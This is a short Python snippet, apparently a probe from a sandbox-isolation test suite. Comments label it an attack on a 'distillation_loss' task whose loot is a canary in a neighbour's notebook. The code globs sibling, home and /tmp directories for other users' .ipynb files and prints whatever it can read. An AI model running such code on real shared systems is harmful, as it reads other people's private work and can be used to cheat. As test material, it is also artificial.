# attacks: distillation_loss
# wall: files
# loot: canary -- the neighbour's notebook
import glob

for place in [*host["classmate"], *glob.glob("../*/*.ipynb"), *glob.glob("/home/*/*/*.ipynb"), *glob.glob("/tmp/*/*.ipynb")]:
    try:
        print(open(place).read())
    except OSError:
        pass
